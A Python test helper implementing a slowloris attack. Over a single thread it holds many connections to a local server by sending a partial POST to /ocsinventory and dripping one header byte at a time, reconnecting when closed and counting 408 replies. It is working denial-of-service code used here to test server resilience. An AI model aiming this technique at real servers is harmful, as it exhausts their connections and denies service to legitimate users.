"""Clients that hold connections without ever finishing a request (slowloris): one thread, any number of connections.

Each sends the beginning of a request and then one header byte every `pause` seconds. Whoever is closed is counted with what it was
told, and, with `again`, comes back at once: the attack goes on.

As a program (slow_clients.py PORT COUNT PAUSE) it says "full" when all are there, attacks until its input ends, and then says how many
connections were closed.
"""
import collections
import os
import resource
import select
import socket
import sys
import threading
import time

BEGIN = b'POST /ocsinventory HTTP/1.1\r\nHost: localhost\r\nX-Slow: '


def allow_files(count):
    """Raise our own limit. @return whether it is enough"""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count <= hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (count, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0] >= count


class SlowClients:
    def __init__(self, port, count, pause=1.0, again=False):
        self.port, self.count, self.pause, self.again = port, count, pause, again
        self.open, self.refused, self.silent, self.lives = {}, 0, 0, []
        self.due = collections.deque()  # who sends next, and when: the pause is the same for all
        self.stopping = threading.Event()
        self.full = threading.Event()
        self.poll = select.epoll()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def __enter__(self):
        self.thread.start()
        if not self.full.wait(60):
            raise AssertionError('%d of %d slow connections' % (len(self.open), self.count))
        return self

    def __exit__(self, *_):
        self.stopping.set()
        self.thread.join()
        for s, _ in self.open.values():
            s.close()

    def connect(self):
        s = socket.create_connection(('127.0.0.1', self.port), timeout=30)
        s.setblocking(False)
        s.send(BEGIN)
        now = time.monotonic()
        self.open[s.fileno()] = (s, now)
        self.due.append((now + self.pause, s))
        self.poll.register(s.fileno(), select.EPOLLIN)

    def ended(self, fd):
        s, begun = self.open.pop(fd)
        try:
            said = s.recv(4096)
        except OSError:
            said = b''
        self.refused += said.startswith(b'HTTP/1.1 408')
        self.silent += not said
        self.lives.append(time.monotonic() - begun)
        self.poll.unregister(fd)
        s.close()

    def drip(self):
        now = time.monotonic()
        while self.due and self.due[0][0] <= now:
            _, s = self.due.popleft()
            try:
                s.send(b'x')
            except OSError:
                continue  # closed: the poll tells
            self.due.append((now + self.pause, s))

    def run(self):
        begun = 0
        while not self.stopping.is_set():
            for _ in range(100):
                if begun >= self.count and not (self.again and len(self.open) < self.count):
                    break
                self.connect()
                begun += 1
            if begun >= self.count:
                self.full.set()
            for fd, _ in self.poll.poll(0.02):
                self.ended(fd)
            self.drip()


def main():
    port, count, pause = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    os.nice(19)  # another machine's work: it must not take the servers' time on this one
    allow_files(count + 100)
    with SlowClients(port, count, pause, again=True) as slow:
        print('full', flush=True)
        sys.stdin.read()
    print(len(slow.lives), flush=True)


if __name__ == '__main__':
    main()
